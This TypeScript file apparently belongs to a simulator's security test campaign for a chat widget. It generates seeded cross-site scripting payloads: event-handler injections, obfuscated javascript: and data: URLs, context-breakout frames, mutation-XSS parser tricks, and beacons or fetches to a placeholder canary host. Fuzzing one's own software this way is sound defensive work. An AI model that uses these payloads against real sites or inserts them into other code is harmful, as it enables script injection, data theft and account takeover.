import type { Random } from '../../../simulator/support/random.ts'

/** Stands in a payload for the address of the canary server, without its scheme. */
export const CANARY = '{{CANARY}}'

/** What a payload tries to run; each leaves a trace that the campaign looks for. */
const scripts = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'print()',
  'callpointCanary(1)',
  'top.callpointCanary(1)',
  'self[`callpointCanary`](1)',
  `fetch('http://${CANARY}/fetch')`,
  `new Image().src='//${CANARY}/image'`,
  `location='http://${CANARY}/location'`,
  `window.open('http://${CANARY}/open')`,
  `navigator.sendBeacon('http://${CANARY}/beacon')`,
  `import('http://${CANARY}/module.js')`,
  `new WebSocket('ws://${CANARY}/socket')`,
  "document.title='owned'",
  'callpoint.chat.end()',
  "eval('callpointCanary(2)')",
  "setTimeout('callpointCanary(3)')",
  "Function('callpointCanary(4)')()",
  "document.body.innerHTML='<img src=x onerror=callpointCanary(5)>'",
] as const

const tags = [
  ...['img', 'svg', 'body', 'input', 'video', 'audio', 'iframe', 'details', 'marquee', 'object'],
  ...['div', 'a', 'button', 'select', 'textarea', 'form', 'table', 'math', 'image', 'keygen'],
  ...['b', 'font', 'p', 'span', 'li', 'custom-tag', 'style', 'link', 'meta', 'script', 'embed'],
] as const

const handlers = [
  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onfocusin', 'onstart'],
  ...['ontoggle', 'onpointerenter', 'onpointerdown', 'onanimationstart', 'onanimationend'],
  ...['ontransitionend', 'onwheel', 'onscroll', 'oncopy', 'onpaste', 'oncut', 'ondragstart'],
  ...['onbegin', 'onend', 'onrepeat', 'onfinish', 'onbounce', 'onbeforeinput', 'onpageshow'],
  ...['onhashchange', 'onmessage', 'onresize', 'onunload', 'onbeforetoggle', 'onkeydown'],
  ...['oncontextmenu', 'onauxclick', 'onloadstart', 'onsearch', 'onselectstart', 'oninvalid'],
] as const

const quoting: readonly ((name: string, value: string) => string)[] = [
  (name, value) => `${name}="${value.replaceAll('"', '&quot;')}"`,
  (name, value) => `${name}='${value.replaceAll("'", '&#39;')}'`,
  (name, value) => `${name}=${value.replaceAll(' ', '/**/')}`,
  (name, value) => `${name.toUpperCase()}="${entities(value)}"`,
  (name, value) => `/${name}=\`${value}\``,
  (name, value) => `\n${name}\t=\f"${value.replaceAll('"', '&#x22')}"`,
  (name, value) => `x="a>${name}="${value}"`,
  (name, value) => `"${name}="${value}"`,
]

/** URL schemes and the ways to hide them. */
function urls(script: string): readonly string[] {
  const coded = encodeURIComponent(script)
  return [
    `javascript:${script}`,
    `JaVaScRiPt:${script}`,
    `  javascript:${script}`,
    `java\tscript:${script}`,
    `java\nscript:${script}`,
    `&#106;avascript:${script}`,
    `&#x6A&#x61&#x76&#x61script&colon;${script}`,
    `javascript&Tab;:${script}`,
    `\u0001javascript:${script}`,
    `javascript://${CANARY}/%0a${script}`,
    `vbscript:${script}`,
    `data:text/html,<script>${script}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${coded}'/>`,
    `blob:http://${CANARY}/${coded}`,
    `filesystem:http://${CANARY}/temporary/x`,
    `file:///etc/passwd`,
    `app://callpoint/index.html?${coded}`,
    `//${CANARY}/scheme-relative`,
    `http:${CANARY}/half`,
    `\\\\${CANARY}\\share`,
    `http://user:secret@${CANARY}/credentials`,
    `http://${CANARY}/plain`,
    `https://xn--80ak6aa92e.example/${coded}`,
    `view-source:http://${CANARY}/`,
    `intent://${CANARY}/#Intent;scheme=http;end`,
  ]
}

/** Whatever takes an address, and would ask for it. */
const fetchers: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">a link</a>`,
  (url) => `<a href="${url}" target=_blank download ping="http://${CANARY}/ping">a link</a>`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x, ${url} 2x">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel="prefetch preconnect dns-prefetch modulepreload icon" href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}"><img src=images/agent.gif>`,
  (url) => `<form action="${url}"><input autofocus type=submit></form>`,
  (url) => `<button formaction="${url}">press</button>`,
  (url) => `<video poster="${url}" src="${url}" autoplay><track src="${url}"></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><td background="${url}">cell</td></table>`,
  (url) => `<svg><image href="${url}"/><use xlink:href="${url}#x"/></svg>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>a link</text></a></svg>`,
  (url) => `<svg><script href="${url}"/></svg>`,
  (url) => `<math href="${url}">a link</math>`,
  (url) => `<math><maction actiontype="statusline#${url}" xlink:href="${url}">x</maction></math>`,
  (url) => `<div style="background:url(${url})">text</div>`,
  (url) => `<style>@import "${url}"; *{background:url("${url}")}</style>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<applet code="${url}"></applet>`,
  (url) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  (url) => `<html manifest="${url}">`,
]

/** Where a payload is put to break out of what holds it. */
const frames: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `"><${inner.slice(1)}`,
  (inner) => `'>${inner}<'`,
  (inner) => `</p></div></li></body></html>${inner}`,
  (inner) => `<!-->${inner}<!--`,
  (inner) => `<!--${inner}-->${inner}`,
  (inner) => `<textarea></textarea>${inner}</textarea>`,
  (inner) => `<title></title>${inner}</title>`,
  (inner) => `<style></style>${inner}</style>`,
  (inner) => `<noscript><p title="</noscript>${inner}"></noscript>`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<FONT face=Tahoma size=2><TABLE><TR><TD>${inner}</TABLE></FONT>`,
  (inner) => `<b><i><u><b>${inner}</i></b></u>`,
  (inner) => `<a href="https://example.com/">${inner}</a>`,
  (inner) => `<ul><li><ol><li>${inner}`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<xmp>${inner}</xmp>${inner}`,
  (inner) => entities(inner),
  (inner) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (inner) => inner.replaceAll('<', '\u00ad<').replaceAll('=', '\u0000='),
  (inner) => `\u202e${inner}\u2066`,
  (inner) => inner.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
]

/** What no pattern makes: known tricks of parsers, and texts that lie about their direction. */
function oddities(script: string): readonly string[] {
  return [
    `<script>${script}</script>`,
    `<ScRiPt>${script}</sCrIpT>`,
    `<script/x>${script}</script >`,
    `<script>${script}`,
    `<scr<script>ipt>${script}</scr</script>ipt>`,
    `<script type=module>${script}</script>`,
    `<script>/*<!--*/<script>${script}//--></script>`,
    `<svg><script>${script}</script></svg>`,
    `<svg><script>${entities(script)}</script></svg>`,
    `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
    `<svg><set attributeName=onmouseover to="${script}"/></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${script}"/><text y=20>x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${script}</script>"></iframe></foreignObject></svg>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${script}></annotation-xml></math>`,
    `<details open ontoggle=${script}><summary>x</summary></details>`,
    `<input autofocus onfocus=${script}>`,
    `<div style="animation:a" onanimationstart=${script}><style>@keyframes a{}</style></div>`,
    `<div style="width:expression(${script});behavior:url(x);-moz-binding:url(x)">x</div>`,
    `<style>*{x:expression(${script})}</style>`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<meta charset=utf-7>+ADw-script+AD4-${script}+ADw-/script+AD4-`,
    `<iframe src="javascript:${script}">`,
    `<object data="javascript:${script}">`,
    `<img src=x:x onerror\u0000=${script}>`,
    `<img/src/onerror=${script}>`,
    `<img src="x\`${script}" onerror=${script}//">`,
    `<x onclick=${script} style="position:fixed;inset:0">cover</x>`,
    `<dialog open onclose=${script}><form method=dialog><button>x</button></form></dialog>`,
    `<button popovertarget=x>p</button><div popover id=x onbeforetoggle=${script}>x</div>`,
    `<div id=callpoint></div><form name=callpoint><input name=chat></form>`,
    `<img name=getElementById><img name=body><a id=location href="javascript:${script}">x</a>`,
    `<div is="x-${script}" class="link" role=alert aria-live=assertive>x</div>`,
    `\${${script}} {{constructor.constructor('${script}')()}} {@html '${script}'} <%= ${script} %>`,
    `{#if true}<img src=x onerror=${script}>{/if}`,
    `\u202e<gnp.elif/>\u202c<img src=x onerror=${script}>`,
    `abc\u202e\u2066\u2067\u2068\u202a\u202b cba \u200f\u200e${script}`,
    `\ufeff\u200b<\u200bimg src=x onerror=${script}>`,
    `<p>${'\u0301'.repeat(500)}zalgo <img src=x onerror=${script}></p>`,
    `${'<b>'.repeat(400)}deep<img src=x onerror=${script}>`,
    `${'<ul><li>'.repeat(200)}deep<img src=x onerror=${script}>`,
    `<a href="https://example.com@evil.example/">example.com</a><img src=x onerror=${script}>`,
    `<!DOCTYPE html [<!ENTITY x "${script}">]><html><body onload="&x;">`,
    `<?xml-stylesheet href="javascript:${script}"?><x/>`,
    `<%<img src=x onerror=${script}>`,
    `</${'x'.repeat(3000)}><img src=x onerror=${script}>`,
    `<img ${'a '.repeat(2000)}src=x onerror=${script}>`,
    `&NewLine;&Tab;&colon;&lpar;1&rpar;&#0;&#xD800;&#1114112;&notin;&<img src=x onerror=${script}>`,
  ]
}

function entities(text: string): string {
  return Array.from(text, (letter) => `&#${String(letter.codePointAt(0))};`).join('')
}

/** Each trick once, filled up with combinations drawn from the seed; no two are the same. */
export function makePayloads(random: Random, wanted: number): readonly string[] {
  const made = new Set<string>()
  for (const [at, handler] of handlers.entries()) {
    const quote = quoting[at % quoting.length] ?? String
    for (const tag of [tags[at % tags.length] ?? 'img', 'img', 'svg']) {
      made.add(`<${tag} src=x ${quote(handler, random.pick(scripts))}>x</${tag}>`)
    }
  }
  for (const [at, frame] of frames.entries()) {
    made.add(frame(`<img src=x onerror=${scripts[at % scripts.length] ?? ''}>`))
    made.add(frame(`<svg onload=${scripts[(at + 7) % scripts.length] ?? ''}>`))
  }
  for (const [at, fetcher] of fetchers.entries()) {
    const forms = urls(scripts[at % scripts.length] ?? '')
    made.add(fetcher(`http://${CANARY}/fetched-${at}`))
    for (let turn = 0; turn < 6; turn += 1) made.add(fetcher(random.pick(forms)))
  }
  for (const script of ['alert(1)', 'callpointCanary(6)', `fetch('//${CANARY}/odd')`]) {
    for (const odd of oddities(script)) made.add(odd)
    for (const url of urls(script)) made.add(`<a href="${url}">${url}</a>`)
  }
  while (made.size < wanted) {
    const script = random.pick(scripts)
    const inner =
      random.next() < 0.5
        ? `<${random.pick(tags)} src=x ${random.pick(quoting)(random.pick(handlers), script)}>x`
        : random.pick(fetchers)(random.pick(urls(script)))
    made.add(random.pick(frames)(inner))
  }
  return [...made]
}
